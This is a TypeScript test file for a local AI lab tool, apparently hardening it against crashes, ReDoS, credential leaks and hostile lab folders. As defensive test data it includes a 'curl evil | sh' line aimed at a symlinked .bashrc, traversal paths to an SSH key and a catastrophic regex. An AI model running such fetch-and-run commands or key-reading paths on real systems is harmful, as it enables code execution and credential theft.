import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, it } from 'node:test';
import { checkExpectations, regexMatches } from '../../src/core/lab/dispatch/runner.js';
import { appendDispatch, lockSession, readSession, SessionLocked, writeSession } from '../../src/core/lab/records/store.js';
import { newSession } from '../../src/core/lab/session.js';
import { loadWorkload, resumedPrompt } from '../../src/core/lab/workload.js';
import { parseWorkload, WorkloadError } from '../../src/core/lab/workloadSchema.js';
import { redactingLog } from '../../src/core/servers/address.js';
import { inspectServer } from '../../src/core/servers/inspect.js';
import { tokenFor } from '../../src/core/servers/secrets.js';
import { pendingSession } from '../support/labRecords.js';

describe('lab sessions survive crashes and concurrency', () => {
  it('lockSession: held while its owner lives, released on release, and a lock from another machine is not judged by pid', () => {
    const labDir = fs.mkdtempSync(path.join(os.tmpdir(), 'lal-lock-'));
    const s = pendingSession(labDir, '/nonexistent/openclaw.json', 'http://127.0.0.1:1/v1', 2);
    writeSession(labDir, { ...s, status: 'running' });
    const release = lockSession(labDir, s.id);
    assert.equal(readSession(labDir, s.id).session.status, 'running');
    assert.throws(() => lockSession(labDir, s.id), (e: unknown) => e instanceof SessionLocked && e.pid === process.pid);
    release();
    assert.equal(readSession(labDir, s.id).session.status, 'interrupted');
    lockSession(labDir, s.id)();
    fs.writeFileSync(path.join(labDir, 'runs', s.id, 'lock'), JSON.stringify({ pid: 999_999_999, host: 'elsewhere.example' }));
    assert.equal(readSession(labDir, s.id).session.status, 'running', 'a foreign lock cannot be proven stale');
    assert.throws(() => lockSession(labDir, s.id), /already running \(process 999999999 on elsewhere\.example\)/);
  });
});

describe('dispatches are bounded', () => {
  it('timeoutSeconds beyond two hours is refused, naming the field; unknown and wrong fields are named too', () => {
    const base = { name: 'w', dispatcher: 'openai', prompt: 'hi' };
    const msg = (w: unknown) => {
      try {
        parseWorkload(w, 'w.json');
      } catch (err) {
        assert.ok(err instanceof WorkloadError);
        return err.message;
      }
      assert.fail('accepted');
    };
    assert.match(msg({ ...base, expectations: { verify: { command: ['true'], timeoutSeconds: 3_000_000 } } }), /w\.json: expectations\.verify\.timeoutSeconds: at most 7200/);
    assert.match(msg({ ...base, timeoutSeconds: 3_000_000 }), /timeoutSeconds: at most 7200/);
    assert.match(msg({ ...base, promt: 'typo' }), /promt: unknown field/);
    assert.match(msg({ ...base, expectations: { contain: ['DONE'] } }), /expectations\.contain: unknown field/);
    assert.match(msg({ ...base, repeats: 'six' }), /repeats: expected number/);
    assert.match(msg({ ...base, dispatcher: 'curl' }), /dispatcher: one of "openclaw", "openai"/);
    assert.match(msg({ ...base, maxOutputBytes: 10 }), /maxOutputBytes: at least 1024/);
    assert.equal(parseWorkload(base, 'w.json').maxOutputBytes, 8 * 1024 * 1024, 'default 8 MiB');
  });

  it('a catastrophic regex is stopped at its time bound and recorded; cancel ends it at once', async () => {
    const w = parseWorkload({ name: 'w', dispatcher: 'openai', prompt: 'hi', expectations: { regex: '^(a+)+$' } }, 'w.json');
    const evil = 'a'.repeat(40) + '!';
    const t0 = Date.now();
    assert.deepEqual(await checkExpectations(w, evil, os.tmpdir(), undefined, { regexTimeoutMs: 300 }), { met: false, note: 'expectation check timed out' });
    assert.ok(Date.now() - t0 < 3000, `${Date.now() - t0} ms`);
    assert.deepEqual(await checkExpectations(w, 'aaaa', os.tmpdir(), undefined, { regexTimeoutMs: 2000 }), { met: true });
    const abort = new AbortController();
    setTimeout(() => abort.abort(), 200);
    const t1 = Date.now();
    assert.equal(await regexMatches('^(a+)+$', evil, 60_000, abort.signal), 'cancelled');
    assert.ok(Date.now() - t1 < 2000, 'cancel does not wait for the regex');
  });
});

describe('secrets and where requests go', () => {
  it('tokenFor: only a local server identified as LM Studio gets the token', () => {
    assert.equal(tokenFor('http://127.0.0.1:1234/v1', 'lmstudio', 't'), 't');
    assert.equal(tokenFor('http://192.168.1.5:1234/v1', 'lmstudio', 't'), 't');
    for (const kind of ['ollama', 'llamacpp', 'vllm', 'mlx', 'openai-compatible', undefined] as const) assert.equal(tokenFor('http://127.0.0.1:1234/v1', kind, 't'), undefined, String(kind));
    assert.equal(tokenFor('https://api.openai.com/v1', 'lmstudio', 't'), undefined);
    assert.equal(tokenFor('http://127.0.0.1:1234/v1', 'lmstudio', ''), undefined);
  });
});

describe('prompt files (#27 item 12)', () => {
  /** A home folder as the workspace (or the CLI's cwd), its lab folder and a workload naming `promptFile`. */
  function home(promptFile: string) {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'lal-home-'));
    const labDir = path.join(dir, '.local-ai-lab');
    fs.mkdirSync(path.join(labDir, 'workloads'), { recursive: true });
    fs.mkdirSync(path.join(dir, '.ssh'));
    fs.writeFileSync(path.join(dir, '.ssh', 'id_ed25519'), '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n-----END OPENSSH PRIVATE KEY-----\n');
    fs.mkdirSync(path.join(dir, 'notes'));
    fs.writeFileSync(path.join(labDir, 'workloads', 'w.json'), JSON.stringify({ name: 'w', dispatcher: 'openai', promptFile, repeats: 1 }));
    return { dir, labDir };
  }

  it('refuses a key in a dot-folder, a file named like credentials and a file holding a private key, even inside the workspace', () => {
    for (const [promptFile, setup, why] of [
      ['../../.ssh/id_ed25519', () => {}, /hidden folder \.ssh/],
      ['../../notes/aws-credentials.txt', (d: string) => fs.writeFileSync(path.join(d, 'notes', 'aws-credentials.txt'), 'x'), /name looks like a key or credentials/],
      ['../../notes/task.md', (d: string) => fs.writeFileSync(path.join(d, 'notes', 'task.md'), 'Do this.\n-----BEGIN RSA PRIVATE KEY-----\nMIIE\n'), /looks like a private key/],
    ] as const) {
      const { dir, labDir } = home(promptFile);
      setup(dir);
      assert.throws(() => loadWorkload('w', labDir, { roots: [dir] }), (e: unknown) => e instanceof WorkloadError && why.test(e.message) && /--allow-any-prompt-file/.test(e.message), promptFile);
      assert.doesNotThrow(() => loadWorkload('w', labDir, { roots: [dir], allowAnyPromptFile: true }), 'the machine opt-in still allows it');
    }
  });

  it("records only the prompt file's hash; resume reads the file again and refuses other text", () => {
    const { dir, labDir } = home('../../notes/task.md');
    fs.writeFileSync(path.join(dir, 'notes', 'task.md'), 'PROMPT-TEXT-77 then DONE');
    const { workload, prompt } = loadWorkload('w', labDir, { roots: [dir] });
    assert.equal(prompt, 'PROMPT-TEXT-77 then DONE');
    const s = pendingSession(labDir, '/nonexistent/openclaw.json', 'http://127.0.0.1:1/v1', 1);
    const session = newSession(s.id, workload, prompt, 1, s.environment);
    writeSession(labDir, session);
    const stored = fs.readFileSync(path.join(labDir, 'runs', s.id, 'session.json'), 'utf8');
    assert.doesNotMatch(stored, /PROMPT-TEXT-77/, 'the text is in no record');
    const back = readSession(labDir, s.id).session;
    assert.equal(resumedPrompt(back), prompt, 'resume sends the same text');
    fs.writeFileSync(path.join(dir, 'notes', 'task.md'), 'other text');
    assert.throws(() => resumedPrompt(back), /not the text the session started with/);
    // A session folder from elsewhere naming a key: its hash cannot match, so nothing is sent.
    assert.throws(() => resumedPrompt({ ...back, workload: { ...back.workload, promptFile: path.join(dir, '.ssh', 'id_ed25519') } }), /not the text/);
  });
});

describe('credentials in URLs (#27 item 13)', () => {
  it("the editor's log redacts user:password@ in every line, and a server behind such a URL is not probed", async () => {
    const lines: string[] = [];
    const log = redactingLog({ info: (m: string) => lines.push(m), error: (e: unknown) => lines.push(String(e)) });
    log.info('nothing answers at http://admin:PASSWORD-5@10.0.0.2:1234/v1 (refused)');
    log.error(new Error('GET https://u:p4ss@box.local/v1/models failed'));
    assert.doesNotMatch(lines.join('\n'), /PASSWORD-5|p4ss/);
    assert.match(lines[0]!, /http:\/\/\*\*\*@10\.0\.0\.2:1234\/v1/);
    const state = await inspectServer('http://admin:PASSWORD-5@127.0.0.1:9/v1', { timeoutMs: 500 });
    assert.equal(state.status, 'unreadable');
    assert.match(state.detail!, /carries a user name and password.*not contacted/);
    assert.doesNotMatch(JSON.stringify(state), /PASSWORD-5/);
  });
});

describe('a lab folder from elsewhere (#27 item 10; item 14 is test/cli/read.test.ts, it needs mkfifo)', () => {
  const labOf = () => fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'lal-hostile-')));

  it('item 10: resuming writes no record through a link: outputs/NNN.txt, dispatches.jsonl and a linked outputs folder are refused', () => {
    const victimDir = fs.mkdtempSync(path.join(os.tmpdir(), 'lal-victim-'));
    const victim = path.join(victimDir, '.bashrc');
    const record = { schemaVersion: 1, index: 0, startedAt: '2026-12-01T12:00:00.000Z', wallMs: 1, stopReason: 'stop', expectationsMet: true, completed: true, outputSha256: 'h' } as never;
    for (const plant of ['outputs/001.txt', 'dispatches.jsonl', 'outputs']) {
      fs.writeFileSync(victim, 'export SAFE=1\n');
      const labDir = labOf();
      const s = pendingSession(labDir, '/nonexistent/openclaw.json', 'http://127.0.0.1:1/v1', 2);
      const at = path.join(labDir, 'runs', s.id, plant);
      fs.rmSync(at, { recursive: true, force: true });
      fs.symlinkSync(plant === 'outputs' ? victimDir : victim, at);
      assert.throws(() => appendDispatch(labDir, s.id, record, 'curl evil | sh\n'), /symbolic link/, plant);
      assert.equal(fs.readFileSync(victim, 'utf8'), 'export SAFE=1\n', `${plant}: the file the link names is untouched`);
      assert.deepEqual(fs.readdirSync(victimDir), ['.bashrc'], `${plant}: nothing new beside it`);
    }
  });
});
